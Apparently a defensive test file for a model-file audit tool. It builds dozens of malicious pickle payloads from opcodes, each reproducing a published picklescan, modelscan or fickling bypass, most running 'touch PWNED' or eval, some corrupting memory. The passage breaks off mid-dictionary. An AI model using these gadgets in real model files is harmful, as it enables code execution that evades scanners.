"""Every published bypass of picklescan, modelscan and fickling is flagged, and the audit runs no payload.

Each payload is built from opcodes after the advisory in the comment above the payload. Where possible, a payload that
runs leaves the file `PWNED` in the current directory.
"""

from __future__ import annotations

import decimal
import fractions
import io
import marshal
import os
import pickle
import struct
import subprocess
import sys
import tarfile

import pytest
import torch
from safetensors.torch import load_file, save_file

from statecli.commands.audit.run import Request, audit
from statecli.core.finding import Severity

from ..formats.attacks import (
    Member,
    build,
    build_pickle,
    call_function,
    call_global,
    four,
    global_name,
    legacy,
    number,
    numbers,
    records,
    short,
    stack_global,
    state_dict,
    tensor,
    text,
)

TOUCH = "touch PWNED"
CODE = "open('PWNED', 'w')"
SYSTEM = call_function(global_name("os", "system"), text(TOUCH))
EVAL = call_function(global_name("builtins", "eval"), text(CODE))
MARSHALLED = marshal.dumps(compile(CODE, "", "exec"))


def pickle_call(module, name, *args):
    """A pickle of a call; the name may have dots."""
    return four(call_global(module, name, *args))


def mark_as_used(body):
    """fickling: the result of a call is given to a BUILD, and so its variable counts as used."""
    return body + b"}" + text("a") + number(1) + b"sb"


# Names missing from a scanner's list of harmful names. Advisory -> the pickle.
GADGETS = {
    # CVE-2025-1716, GHSA-655q-fx9r-782v
    "pip.main": pickle_call("pip", "main", b"](" + short("install") + short("nothing") + b"e"),
    # GHSA-v7x6-rv5q-mhwc
    "timeit.timeit": pickle_call("timeit", "timeit", short(""), short(CODE)),
    # GHSA-9xph-j2h6-g47v
    "idlelib.calltip.get_entity": pickle_call("idlelib.calltip", "get_entity", short(CODE)),
    # GHSA-8r4j-24qv-fmq9
    "Calltip.fetch_tip": pickle_call("idlelib.calltip", "Calltip.fetch_tip", b"}", short(CODE)),
    # GHSA-6w4w-5w54-rjvr
    "AutoComplete.get_entity": pickle_call("idlelib.autocomplete", "AutoComplete.get_entity", b"}", short(CODE)),
    # GHSA-7cq8-mj8x-j263
    "AutoComplete.fetch_completions": pickle_call(
        "idlelib.autocomplete", "AutoComplete.fetch_completions", b"}", short(CODE), number(1)
    ),
    # GHSA-3vg9-h568-4w9m
    "ObjectTreeItem.SetText": pickle_call("idlelib.debugobj", "ObjectTreeItem.SetText", b"}", short(CODE)),
    # GHSA-m869-42cg-3xwr
    "Executive.runcode": pickle_call("idlelib.run", "Executive.runcode", b"}", short(CODE)),
    # GHSA-j343-8v2j-ff7w
    "ModifiedInterpreter.runcommand": pickle_call(
        "idlelib.pyshell", "ModifiedInterpreter.runcommand", b"}", short(CODE)
    ),
    # GHSA-3gf5-cxq9-w223
    "ModifiedInterpreter.runcode": pickle_call("idlelib.pyshell", "ModifiedInterpreter.runcode", b"}", short(CODE)),
    # GHSA-f54q-57x4-jg88
    "Grammar.loads": pickle_call("lib2to3.pgen2.grammar", "Grammar.loads", b"}", short(build_pickle(EVAL))),
    # GHSA-p9w7-82w4-7q8m
    "ParserGenerator.make_label": pickle_call(
        "lib2to3.pgen2.pgen", "ParserGenerator.make_label", b"N}", short('""+str(' + CODE + ")")
    ),
    # GHSA-5qwp-399c-mjwf
    "Trace.run": pickle_call("trace", "Trace.run", call_global("trace", "Trace"), short(CODE)),
    # GHSA-g344-hcph-8vgg
    "Trace.runctx": pickle_call("trace", "Trace.runctx", call_global("trace", "Trace"), short(CODE), b"}}"),
    # GHSA-x696-vm39-cp64
    "Profile.run": pickle_call("profile", "Profile.run", call_global("profile", "Profile"), short(CODE)),
    # GHSA-6vqj-c2q5-j97w
    "Profile.runctx": pickle_call("profile", "Profile.runctx", call_global("profile", "Profile"), short(CODE), b"}}"),
    # GHSA-49gj-c84q-6qm9, GHSA-p523-jq9w-64x9 (CVE-2026-22607)
    "cProfile.run": pickle_call("cProfile", "run", short(CODE)),
    # GHSA-9w88-8rmg-7g2p
    "cProfile.runctx": pickle_call("cProfile", "runctx", short(CODE), b"}}"),
    # GHSA-fqq6-7vqf-w3fg
    "doctest.debug_script": pickle_call("doctest", "debug_script", short(CODE), b"\x88"),
    # GHSA-cj3c-v495-4xqh
    "InteractiveInterpreter.runcode": pickle_call(
        "code", "InteractiveInterpreter.runcode", call_global("code", "InteractiveInterpreter"), short(CODE)
    ),
    # GHSA-xp4f-hrf8-rxw7
    "ensurepip._run_pip": pickle_call("ensurepip", "_run_pip", b"](" + short("list") + b"e"),
    # GHSA-m273-6v24-x4m4
    "distutils.file_util.write_file": pickle_call(
        "distutils.file_util", "write_file", short("PWNED"), b"](" + short("a") + b"e"
    ),
    # CVE-2025-10157, GHSA-f7qq-56ww-84cr: a submodule of what was listed
    "asyncio.unix_events": pickle_call(
        "asyncio.unix_events", "_UnixSubprocessTransport._start", b"}", short(TOUCH), b"\x88NNN", number(0)
    ),
    # GHSA-4r9r-ch6f-vxmx
    "torch.utils.bottleneck run_cprofile": pickle_call(
        "torch.utils.bottleneck.__main__", "run_cprofile", short(CODE), b"}"
    ),
    # GHSA-4whj-rm5r-c2v8
    "torch.utils.bottleneck run_autograd_prof": pickle_call(
        "torch.utils.bottleneck.__main__", "run_autograd_prof", short(CODE), b"}"
    ),
    # GHSA-86cj-95qr-2p4f
    "GuardBuilder.get": pickle_call("torch._dynamo.guards", "GuardBuilder.get", b"}", short(CODE)),
    # GHSA-f4x7-rfwp-v3xw
    "ShapeEnv.evaluate_guards_expression": pickle_call(
        "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", b"}", short(CODE), b"]"
    ),
    # GHSA-f745-w6jp-hpxx
    "torch.utils.collect_env.run": pickle_call("torch.utils.collect_env", "run", short(TOUCH)),
    # GHSA-jhph-76pp-mggw
    "torch.utils.collect_env.run_and_read_all": pickle_call(
        "torch.utils.collect_env", "run_and_read_all", stack_global("torch.utils.collect_env", "run"), short(TOUCH)
    ),
    # GHSA-h3qp-7fh3-f8h4
    "decoder.basichandlers": pickle_call(
        "torch.utils.data.datapipes.utils.decoder", "basichandlers", short("pickle"), short(build_pickle(EVAL))
    ),
    # GHSA-vr7h-p6mm-wpmh
    "torch.jit execWrapper": pickle_call("torch.jit.unsupported_tensor_ops", "execWrapper", short(CODE), b"}}"),
    # GHSA-vv6j-3g6g-2pvj
    "ConfigModule.load_config": pickle_call(
        "torch.utils._config_module", "ConfigModule.load_config", b"}", short(build_pickle(EVAL))
    ),
    # picklescan's malicious17
    "torch._inductor.codecache.compile_file": pickle_call(
        "torch._inductor.codecache",
        "compile_file",
        short(""),
        short(""),
        b"](" + short("sh") + short("-c") + short(TOUCH) + b"e",
    ),
    # picklescan's malicious18
    "pydoc.pipepager": pickle_call("pydoc", "pipepager", short(""), short(TOUCH)),
    # picklescan's malicious19
    "functools.partial of torch.load": four(
        call_function(
            call_global("functools", "partial", stack_global("torch.serialization", "load"), short("other.bin"))
        )
    ),
    # picklescan's malicious20
    "venv.create": pickle_call("venv", "create", short("venv"), b"\x89\x89\x88\x89", short(TOUCH)),
    # picklescan's malicious22
    "numpy.testing runstring": pickle_call("numpy.testing._private.utils", "runstring", short(CODE), b"}"),
    # GHSA-955r-x9j8-7rhh, GHSA-46h3-79wf-xr6c: the C twin of a listed module
    "_operator.attrgetter": four(
        call_function(
            call_global("_operator", "attrgetter", short("system")), call_global("builtins", "__import__", short("os"))
        )
    ),
    # GHSA-4675-36f9-wf6r
    "_operator.methodcaller": pickle_call("_operator", "methodcaller", short("system"), short(TOUCH)),
    # GHSA-84r2-jw7c-4r5q
    "numpy.f2py getlincoef": pickle_call("numpy.f2py.crackfortran", "getlincoef", short(CODE), b"}"),
    # GHSA-r8g5-cgf2-4m4m
    "numpy.f2py _eval_length": pickle_call("numpy.f2py.crackfortran", "_eval_length", short(CODE), b"}"),
    # GHSA-vqmv-47xg-9wpr
    "pty.spawn": pickle_call("pty", "spawn", short(TOUCH)),
    # GHSA-vvpj-8cmc-gx39: any name, given as text
    "pkgutil.resolve_name": four(
        call_function(call_global("pkgutil", "resolve_name", short("os:system")), short(TOUCH))
    ),
    # GHSA-7wx9-6375-f5wh
    "profile.run": pickle_call("profile", "run", short(CODE)),
    # GHSA-g38g-8gr9-h9xp
    "uuid._get_command_stdout": pickle_call("uuid", "_get_command_stdout", short("touch"), short("PWNED")),
    # GHSA-g38g-8gr9-h9xp
    "_osx_support._read_output": pickle_call("_osx_support", "_read_output", short(TOUCH)),
    # GHSA-g38g-8gr9-h9xp
    "_aix_support._read_cmd_output": pickle_call("_aix_support", "_read_cmd_output", short(TOUCH)),
    # GHSA-g38g-8gr9-h9xp
    "_pyrepl.pager.pipe_pager": pickle_call("_pyrepl.pager", "pipe_pager", short(""), short(TOUCH)),
    # GHSA-g38g-8gr9-h9xp
    "imaplib.IMAP4_stream": pickle_call("imaplib", "IMAP4_stream", short(TOUCH)),
    # GHSA-g38g-8gr9-h9xp
    "test.support.script_helper": pickle_call(
        "test.support.script_helper", "assert_python_ok", short("-c"), short(CODE)
    ),
    # GHSA-hgrh-qx5j-jfwx
    "ssl.get_server_certificate": pickle_call(
        "ssl", "get_server_certificate", b"(" + short("localhost") + number(1) + b"t"
    ),
    # picklescan pull request 69
    "mailcap.findmatch": pickle_call("mailcap", "findmatch", b"}", short(TOUCH)),
    # picklescan pull request 74
    "importlib.import_module": four(
        call_function(call_global("importlib", "import_module", short("os")), short("system"))
    ),
    # picklescan: io.FileIO, logging.FileHandler and urlopen
    "_io.FileIO": pickle_call("_io", "FileIO", short("PWNED"), short("w")),
    "logging.FileHandler": pickle_call("logging", "FileHandler", short("PWNED")),
    "urllib.request.urlopen": pickle_call("urllib.request", "urlopen", short("http://localhost:1")),
    # GHSA-r7v6-mfhq-g3m2 (CVE-2025-67748)
    "pty.spawn and BUILD": four(call_global("pty", "spawn", short(TOUCH)) + short("gottem") + b"b"),
    # fickling pull request 108
    "pty.spawn by OBJ": b"(cpty\nspawn\nS'" + TOUCH.encode() + b"'\no.",
    # GHSA-565g-hwwr-4pp3 (CVE-2025-67747)
    "marshal and FunctionType": four(
        call_function(call_global("types", "FunctionType", call_global("marshal", "loads", short(MARSHALLED)), b"}"))
        + short("gottem")
        + b"b"
    ),
    # GHSA-wfq2-52f7-7qvj (CVE-2026-22606)
    "runpy.run_path": pickle_call("runpy", "run_path", short("malicious.py")),
    # GHSA-q5qq-mvfm-j35x (CVE-2026-22609), GHSA-5hvc-6wx8-mvv4 (CVE-2026-22608)
    "ctypes by getattr": four(
        call_function(
            call_global("builtins", "getattr", call_global("ctypes", "CDLL", b"N"), short("system")),
            short(TOUCH.encode()),
        )
    ),
    # GHSA-5hvc-6wx8-mvv4 (CVE-2026-22608)
    "pydoc.locate": call_function(global_name("pydoc", "locate"), b"S'ctypes.CDLL'\n")
    + b"p0\n0cbuiltins\nException\n)R}S'status'\ng0\nsb.",
    # GHSA-q5qq-mvfm-j35x (CVE-2026-22609)
    "code.InteractiveInterpreter": four(
        call_function(
            call_global("builtins", "getattr", call_global("code", "InteractiveInterpreter"), short("runsource")),
            short(CODE),
        )
    ),
    # GHSA-q5qq-mvfm-j35x (CVE-2026-22609), modelscan issue 338
    "spawnv_passfds": pickle_call(
        "multiprocessing.util",
        "spawnv_passfds",
        short(b"/bin/sh"),
        b"](" + short(b"/bin/sh") + short(b"-c") + short(TOUCH.encode()) + b"e",
        b")",
    ),
    # GHSA-h4rm-mm56-xf63 (CVE-2026-22612): a name of builtins, its result kept in an exception
    "__import__ in an exception": four(
        stack_global("builtins", "Exception")
        + b")R}"
        + short("status")
        + call_function(
            call_global("builtins", "getattr", call_global("builtins", "__import__", short("os")), short("system")),
            short(TOUCH),
        )
        + b"sb"
    ),
    # GHSA-mxhj-88fx-4pcv: a call by OBJ whose result is thrown away
    "OBJ and POP": four(b"(" + stack_global("os", "system") + short(TOUCH) + b"o0N"),
    # GHSA-mhc9-48gj-9gp3: REDUCE and then BUILD, of modules on no list
    "smtplib and BUILD": four(mark_as_used(call_global("smtplib", "SMTP", short("localhost")))),
    "socketserver and BUILD": four(
        mark_as_used(call_global("socketserver", "TCPServer", b"(" + short("") + number(0) + b"tN"))
    ),
    "sqlite3 and BUILD": four(mark_as_used(call_global("sqlite3", "connect", short("PWNED")))),
    "signal and BUILD": four(mark_as_used(call_global("signal", "raise_signal", number(23)))),
    "BytesIO with a __setstate__": four(
        call_global("io", "BytesIO") + b"}" + short("__setstate__") + stack_global("os", "system") + b"sb"
    ),
    # GHSA-5hwf-rc88-82xm
    "uuid._popen": pickle_call("uuid", "_popen", short("touch"), short("PWNED")),
    # GHSA-m6fh-58r7-x697
    "_posixsubprocess.fork_exec": pickle_call("_posixsubprocess", "fork_exec", b"](" + short("touch") + b"e"),
    "site.addsitedir": pickle_call("site", "addsitedir", short(".")),
    "atexit.register": pickle_call("atexit", "register", stack_global("os", "abort")),
    # GHSA-6ggj-6f2q-f7mx
    "_interpreters.run_string": pickle_call("_interpreters", "run_string", number(0), short(CODE)),
    "_xxsubinterpreters.create": pickle_call("_xxsubinterpreters", "create"),
    # modelscan issue 267
    "_pickle.loads": pickle_call("_pickle", "loads", short(build_pickle(EVAL))),
    # modelscan issue 331: names spelled out of letters
    "importlib and join": pickle_call(
        "importlib",
        "import_module",
        call_function(
            call_global("builtins", "getattr", stack_global("builtins", "str"), short("join")),
            short(""),
            b"](" + short("o") + short("s") + b"e",
        ),
    ),
    # modelscan issue 330: a function of a listed package, its __builtins__, and BUILD on it
    "numpy.__builtins__": four(
        stack_global("numpy", "size")
        + b"\x940"
        + stack_global("numpy", "__builtins__")
        + b"\x940h\x00}}"
        + short("shape")
        + b"h\x01s\x86b0"
        + call_function(call_function(b"h\x00", b"h\x00", short("eval")), short(CODE))
    ),
    # modelscan issue 338
    "mlflow": pickle_call("mlflow.projects.backend.local", "_run_entry_point", short(TOUCH), short(".")),
    "pandas.read_csv": pickle_call("pandas.io.parsers.readers", "read_csv", short("http://localhost:1")),
    "a longer way to a name": pickle_call("torch.library", "torch.utils.collect_env.run", short(TOUCH)),
    # sour pickles, Black Hat 2011
    "compile and apply": call_function(
        global_name("__builtin__", "apply"),
        global_name("__builtin__", "eval"),
        b"(S'" + CODE.replace("'", '"').encode() + b"'\nl",
    )
    + b".",
    # a module of Python 2; pickle finds the module under its new name
    "commands.getoutput": call_function(global_name("commands", "getoutput"), b"S'" + TOUCH.encode() + b"'\n") + b".",
    # the module of a class also gives access to the imports of the module
    "through a clean module": pickle_call(
        "torch.nn.modules.linear", "torch.utils.cpp_extension.subprocess.Popen", short(TOUCH)
    ),
    # a class of torch.fx: its graph becomes code
    "GraphModule": pickle_call("torch.ao.quantization.fx.convert", "GraphModule", b"N", short(CODE)),
    "reduce_graph_module": pickle_call("torch.fx.graph_module", "reduce_graph_module", b"}", short(CODE)),
    "types.CodeType": pickle_call("types", "CodeType", number(0)),
    "cloudpickle": pickle_call("cloudpickle.cloudpickle", "_make_function", b"N"),
    # CVE-2025-32434, CVE-2022-45907 and friends: torch's own loaders
    "torch.load": pickle_call("torch", "load", short("other.pt")),
    "torch.hub.load": pickle_call("torch.hub", "load", short("a/b"), short("c")),
    "_load_from_bytes": pickle_call("torch.storage", "_load_from_bytes", short(b"abcdefgh")),
    "torch.jit.annotations.parse_type_line": pickle_call(
        "torch.jit.annotations", "parse_type_line", short("# type: " + CODE)
    ),
}

SPELLED = call_global(
    "builtins", "getattr", stack_global("torch.optim.lr_scheduler", "OneCycleLR"), short("_annealing_cos")
)


def build_partial(function, *args):
    """Opcodes of `functools.partial(function, *args)`."""
    return call_global("functools", "partial", function, *args)


def build_namespace(attribute, value):
    """A SimpleNamespace with the given attribute."""
    return call_global("types", "SimpleNamespace") + b"}" + short(attribute) + value + b"sb"


IDENTITY = stack_global("torch.jit._pickle", "restore_type_tag")
NEVER = stack_global("builtins", "getattr")
SPECTRAL = stack_global("torch.nn.utils.spectral_norm", "SpectralNorm") + b")\x81}" + short("name") + short("a") + b"sb"


def build_empty_object(module, name):
    """NEWOBJ: an empty object of the given class."""
    return stack_global(module, name) + b")\x81"


def build_dict(**values):
    """A dict of the given values."""
    return b"}(" + b"".join(short(name) + value for name, value in values.items()) + b"u"


def build_object(holder, **values):
    """An empty object of the given class with the given attributes."""
    return build_empty_object(*holder) + build_dict(**values) + b"b"


def build_dtype(*state, code=b"", size=-1, flags=0):
    """A dtype built from `code`, with the given state: subarray, names, fields, and flags."""
    dtype = call_global("numpy", "dtype", code, b"\x89", b"\x88")
    parts = b"".join(state or (b"N", b"N", b"N"))
    return dtype + b"(" + number(3) + short("|") + parts + number(size) + number(1) + number(flags) + b"tb"


def build_config(**attribute_names):
    """A configuration of transformers with other names for its attributes."""
    names = {name: short(value) for name, value in attribute_names.items()}
    return build_object(("transformers.configuration_utils", "PreTrainedConfig"), attribute_map=build_dict(**names))


ADDRESS = short(b"A" * 8)
OBJECT = build_dtype(code=short("O8"), flags=63)
SCALAR = stack_global("numpy._core.multiarray", "scalar")
ONE_FIELD = (b"N", short("a") + b"\x85", b"}" + short("a") + OBJECT + number(0) + b"\x86s")
SPACE = build_empty_object("argparse", "Namespace")
COMPUTED = call_global("builtins", "str", short("__setstate__"))
PARAMETERS = build_object(("torch.nn.modules.container", "ParameterDict"), _keys=b"}")
PICKED = build_object(("torch.utils.data.dataset", "Subset"), dataset=PARAMETERS, indices=b"]" + short("to") + b"a")
GENERATOR = stack_global("torch._C", "Generator") + b")R"
#: A number whose digits are an address.
DIGITS = number(sum(0x11111111 << 30 * place for place in range(8)))
PLACEMENT = build_empty_object("torch.distributed.tensor.placement_types", "Partial")
WRITTEN = build_dict(reduce_op=short("sum")) + b"b"
SCRIPTED = build_empty_object("torch", "ScriptObject")
HANDLE = build_empty_object("torch.utils.hooks", "RemovableHandle")
#: A row of an optimizer's groups or states: a defaultdict whose factory is called for a missing key.
LISTS = call_global("collections", "defaultdict", stack_global("builtins", "list"))


def build_kept_weights():
    """The weights of a quantized convolution of four channels, and its bias."""
    storage = (
        b"(" + text("storage") + global_name("torch", "QInt8Storage") + text("0") + text("cpu") + number(144) + b"tQ"
    )
    quantizer = b"(" + global_name("torch", "per_tensor_affine") + b"G\x3f\xf0" + bytes(6) + b"K\0t"
    geometry = number(0) + numbers(4, 4, 3, 3) + numbers(36, 9, 3, 1)
    hooks = call_function(global_name("collections", "OrderedDict"))
    return (
        call_function(global_name("torch._utils", "_rebuild_qtensor"), storage, geometry, quantizer, b"\x89", hooks)
        + b"N"
    )


def build_convolution(module="torch.ao.nn.quantized.modules.conv", stride=(1, 1), dilation=(1, 1), groups=1):
    """A quantized convolution. Loading packs its state."""
    sizes = number(4) + number(4) + numbers(3, 3) + numbers(*stride) + numbers(0, 0) + numbers(*dilation)
    parameters = (
        b"\x89"
        + numbers(0, 0)
        + number(groups)
        + text("zeros")
        + build_kept_weights()
        + b"G\x3f\xf0"
        + bytes(6)
        + b"K\0\x89"
    )
    return build_empty_object(module, "Conv2d") + b"(" + sizes + parameters + b"tb"


def build_script_object(name, *state):
    """An object of a C++ class with the given state."""
    return SCRIPTED + b"(" + b"".join(state) + b"t" + text(f"__torch__.torch.classes.{name}") + b"\x86b"


def build_scripted_convolution(*values):
    """Packed weights of a convolution with the given numbers: dimensions, strides and so on, groups, flags."""
    numbers_of = b"](" + b"".join(map(number, values)) + b"e"
    return build_script_object(
        "quantized.Conv2dPackedParamsBase", number(3), numbers_of, b"](N" + build_kept_weights() + b"e"
    )


def build_optimizer(name, **state):
    """An optimizer with the given attributes and `defaults`, but without other attributes that torch reads."""
    return build_object((f"torch.optim.{name.lower()}", name), **{"defaults": b"}", **state})


# Clean classes on load, with objects of the pickle in place of plain values.
METHODS = {
    "a recurrent module of 10**12 layers": build_object(
        ("torch.ao.nn.quantized.reference.modules.rnn", "LSTM"), num_layers=number(10**12)
    ),
    "a recurrent module of 10**12 layers with a module's state": build_object(
        ("torch.nn.modules.rnn", "LSTM"), num_layers=number(10**12), _parameters=b"}", _modules=b"}"
    ),
    "a generator whose state is a number": GENERATOR + DIGITS + b"b",
    "a generator whose state is text": GENERATOR + text("AAAAAAAA") + b"b",
    "a generator whose state is too short": GENERATOR + b"K\x01N\x86b",
    "a generator whose state is no tensor": stack_global("torch", "Generator") + b")R" + b"K\x01NK\x02\x87b",
    "an object of TorchScript without one": b"}" + build_empty_object("torch", "ScriptObject") + b"Ns",
    "a method by another name, given an element": build_config(append="save_pretrained") + short("PWNED") + b"a",
    "a method by another name, given a second state": build_config(__setstate__="save_pretrained")
    + short("PWNED")
    + b"b",
    # pickle creates an object of C++ whose memory is not written before its state.
    "a placement without a state": PLACEMENT,
    "a placement as a key": b"}" + PLACEMENT + b"Ns",
    "a placement as a key, before its state": b"}" + PLACEMENT + b"q\x05Nsh\x05" + WRITTEN + b"0",
    "a placement in a tuple as a key": b"}" + PLACEMENT + b"q\x05\x85Nsh\x05" + WRITTEN + b"0",
    "a placement in a set": b"\x8f(" + PLACEMENT + b"q\x05\x90h\x05" + WRITTEN + b"0",
    "a placement in a frozenset": b"(" + PLACEMENT + b"q\x05\x91h\x05" + WRITTEN + b"0",
    "a placement in a specification as a key": b"}"
    + build_object(
        ("torch.distributed.tensor._dtensor_spec", "DTensorSpec"),
        mesh=b"N",
        placements=PLACEMENT + b"q\x05\x85",
        tensor_meta=b"N",
    )
    + b"Nsh\x05"
    + WRITTEN
    + b"0",
    "a placement that a function is given": PLACEMENT
    + b"q\x05"
    + call_global("zoneinfo", "ZoneInfo", b"h\x05")
    + b"0"
    + WRITTEN,
    "a placement for a mask": build_object(
        ("torch.distributed.tensor.placement_types", "_MaskPartial"), reduce_op=short("sum")
    ),
    "an object of TorchScript in a tuple as a key": b"}" + SCRIPTED + b"q\x05\x85Nsh\x05" + b")N\x86b0",
    # All hooks of the process share `RemovableHandle.next_id`.
    "a hook with the number infinity": HANDLE + b"NG\x7f\xf0" + bytes(6) + b"\x86b",
    "a hook with a number in a list": HANDLE + b"](NG\x7f\xf0" + bytes(6) + b"eb",
    "a hook with a tensor for its number": HANDLE + b"N" + tensor(size=(2**30,), stride=(0,)) + b"\x86b",
    "a hook with a number of 62 bits": HANDLE + b"N" + number(2**62) + b"\x86b",
    "a hook of objects": HANDLE + SPACE + b"K\x01)\x87b",
    # Optimizers look up keys while they are loaded.
    "an optimizer whose group calls a function": build_optimizer("Adam", state=b"}", param_groups=b"]" + LISTS + b"a"),
    "an optimizer whose state calls a function": build_optimizer(
        "Adagrad", param_groups=b"]", state=b"}K\x01" + LISTS + b"s"
    ),
    "an optimizer whose state is made of one that calls a function": build_optimizer(
        "Adagrad", param_groups=b"]", state=call_global("collections", "OrderedDict", b"]K\x01" + LISTS + b"\x86a")
    ),
    # Packing divides by these numbers, or reads by them.
    "a quantized convolution of no groups": build_convolution(groups=0),
    "a quantized convolution with a stride of 0": build_convolution(stride=(0, 0)),
    "a quantized convolution with a dilation of 0": build_convolution(dilation=(1, 0)),
    "a quantized convolution of older releases": build_convolution("torch.nn.quantized.modules.conv", groups=0),
    "a quantized convolution with a dict for its state": build_empty_object(
        "torch.ao.nn.quantized.modules.conv", "Conv2d"
    )
    + b"}(K\x08K\0ub",
    "a convolution of TorchScript of no groups": build_convolution(
        "__torch__.torch.ao.nn.quantized.modules.conv", groups=0
    ),
    "the same by another case": build_convolution("__torch__.torch.ao.nn.Quantized.modules.conv", groups=0),
    "packed weights of no groups": build_scripted_convolution(2, 1, 1, 0, 0, 1, 1, 0, 0, 0, 0),
    "packed weights with a stride of 0": build_scripted_convolution(2, 0, 1, 0, 0, 1, 1, 0, 0, 1, 0),
    "packed weights with too few numbers": build_scripted_convolution(2, 1, 1),
    "packed weights of an old version": build_script_object("quantized.Conv2dPackedParamsBase", text("2"), b"]", b"]"),
    "packed weights of sparse blocks": build_script_object("sparse.LinearPackedParamsBase", number(2), b"N"),
    "packed weights of an unknown class": build_script_object("a.B", number(2)),
    "packed weights of no class": SCRIPTED + b")K\0\x86b",
    "an item set behind the state": build_object(("collections", "UserDict"), data=b"}") + b"K\x01K\x02s",
    "an optimizer that asks an object for its defaults": build_object(
        ("torch.optim.sgd", "SGD"), defaults=build_namespace("a", b"N")
    ),
    "an optimizer that asks an object for its state": build_object(
        ("torch.optim.adam", "Adam"), state=build_namespace("get", build_partial(stack_global("builtins", "dict")))
    ),
    "an optimizer whose groups are objects": build_object(
        ("torch.optim.adam", "Adam"), param_groups=b"]" + build_namespace("a", b"N") + b"a"
    ),
    "an attribute whose name is computed": SPACE
    + b"}"
    + COMPUTED
    + build_partial(stack_global("pathlib", "Path"))
    + b"sb",
    "all attributes at once": build_empty_object("torch.distributed._shard.metadata", "ShardMetadata")
    + b"N"
    + build_dict(__dict__=b"}")
    + b"\x86b",
    "attributes that may be properties": build_empty_object("transformers.configuration_utils", "PreTrainedConfig")
    + b"N"
    + build_dict(per_layer_config=b"N")
    + b"\x86b",
    "other names for attributes": build_config(setdefault="save_pretrained"),
    "a namespace made of computed names": call_global("types", "SimpleNamespace", b"}" + COMPUTED + b"Ns"),
    "a tensor with a computed name": call_global(
        "torch._tensor",
        "_rebuild_from_type_v2",
        stack_global("torch._utils", "_rebuild_meta_tensor_no_storage"),
        stack_global("torch", "Tensor"),
        b"(" + stack_global("torch", "float32") + b"))\x89t",
        b"}" + COMPUTED + b"Ns",
    ),
    # torch calls items() of both parts of a state, and other code calls the value of an attribute
    "contents that a call makes": call_global(
        "torch._tensor",
        "_rebuild_from_type_v2",
        stack_global("torch._utils", "_rebuild_meta_tensor_no_storage"),
        stack_global("torch", "Tensor"),
        b"(" + stack_global("torch", "float32") + b"))\x89t",
        call_global("collections", "OrderedDict") + short("to") + stack_global("torch.nn", "Linear") + b"s" + b"N\x86",
    ),
    "contents of a parameter in two parts": call_global(
        "torch._utils",
        "_rebuild_parameter_with_state",
        b"N",
        b"\x89",
        call_global("collections", "OrderedDict"),
        b"}" + short("to") + stack_global("torch.nn.modules.linear", "Linear") + b"s" + b"N\x86",
    ),
    "a state that a call computed": SPACE + call_global("builtins", "dict") + b"b",
    "a method taken out of a module": call_global("builtins", "list", PICKED),
    "arguments taken out of an object": call_global(
        "torch._tensor",
        "_rebuild_from_type_v2",
        stack_global("torch._utils", "_rebuild_tensor_v2"),
        stack_global("torch", "Tensor"),
        PICKED,
        b"N",
    ),
    "a jagged tensor of a namespace": call_global(
        "torch._tensor",
        "_rebuild_from_type_v2",
        stack_global("torch.nested._internal.nested_tensor", "_rebuild_njt"),
        stack_global("torch.nested._internal.nested_tensor", "NestedTensor"),
        build_dict(values=SPACE, offsets=SPACE) + b"\x85",
        b"}",
    ),
    "a storage's kind that is an object": b"(" + short("storage") + build_namespace("dtype", b"N") + short("0") + b"tQ",
    "what numpy gives back": call_function(SCALAR, OBJECT, stack_global("argparse", "Namespace"))
    + build_dict(a=b"N")
    + b"b",
    "objects that are told to be none": call_function(SCALAR, build_dtype(code=short("O8")), ADDRESS),
    "objects in a field, told to be none": build_dtype(*ONE_FIELD, code=short("V8"), size=8),
    "a field behind the end": build_dtype(*ONE_FIELD, code=short("V4"), size=4, flags=27),
    "a type told by a type": build_dtype(code=OBJECT),
    "a type told by a class": build_dtype(code=stack_global("builtins", "object")),
    "an array of objects over bytes": call_global("numpy", "ndarray", number(1), short("O"), ADDRESS),
    "the same put off": build_partial(stack_global("numpy", "ndarray"), number(1), short("O"), ADDRESS),
    "the same by its __new__": call_global("copyreg", "__newobj__", stack_global("numpy", "ndarray"), number(1)),
    "a member of an encoding changed": call_global(
        "torch.distributed.checkpoint.metadata", "_MEM_FORMAT_ENCODING", number(0)
    )
    + build_dict(a=b"N")
    + b"b",
}

SPACED = build_empty_object("types", "SimpleNamespace")
CONFIG = ("transformers.configuration_utils", "PreTrainedConfig")
RELU = stack_global("torch.nn.functional", "relu")


def build_deferred_call(function, *args, **kwargs):
    """A partial in the form written by pickle: the function and its arguments are the state."""
    state = b"(" + function + b"(" + b"".join(args) + b"t" + build_dict(**kwargs) + b"Nt"
    return call_global("functools", "partial", function) + state + b"b"


def build_overwriting_config(path):
    """A function that builds a configuration; the configuration then writes itself to `path`, for any arguments."""
    deferred_config = build_deferred_call(
        stack_global(*CONFIG), attribute_map=build_dict(fill_=short("to_json_file")), note=short("of the attacker")
    )
    steps = build_deferred_call(
        stack_global("numpy", "mean"), build_object(("types", "SimpleNamespace"), mean=deferred_config)
    ) + build_deferred_call(stack_global("torch.nn.init", "constant_"), val=short(path))
    chain = build_object(
        ("torch.distributions.transforms", "ComposeTransform"), _cache_size=number(0), parts=b"](" + steps + b"e"
    )
    start = build_object(("types", "SimpleNamespace"), softmax=chain)
    return build_deferred_call(stack_global("torch.nn.functional", "softmax"), start, number(0))


def build_chain_map(*maps):
    """A ChainMap of the given maps."""
    return build_object(("collections", "ChainMap"), maps=b"](" + b"".join(maps) + b"e")


def join_operands(*operands):
    """`|` of the operands, as pickle spells the expression."""
    return call_global("functools", "reduce", stack_global("_operator", "or_"), b"](" + b"".join(operands) + b"e")


def build_optional(*operands):
    """`typing.Optional` of the operands, as pickle spells the expression."""
    return call_global("_operator", "getitem", stack_global("typing", "Optional"), b"(" + b"".join(operands) + b"t")


def build_persistent_id(*parts):
    """A persistent id of the given parts. In a tar archive, torch returns the first part of most tuples."""
    return b"(" + b"".join(parts) + b"tQ"


STORAGE_ID = build_persistent_id(
    short("storage"), stack_global("torch", "FloatStorage"), short("0"), short("cpu"), number(4)
)
# Methods built by the pickle, and deferred calls, each alone.
HIDDEN = {
    "a file overwritten by |": join_operands(
        build_chain_map(build_object(("types", "SimpleNamespace"), copy=build_overwriting_config("PWNED"))), b"}"
    ),
    "a file overwritten by the text of an error": build_optional(
        build_object(CONFIG, to_json_string=build_overwriting_config("PWNED"))
    ),
    "| of objects": join_operands(build_chain_map(b"}"), b"}"),
    "Optional of an object": build_optional(SPACED),
    "Optional of a list with an object": build_optional(b"](" + SPACED + b"e"),
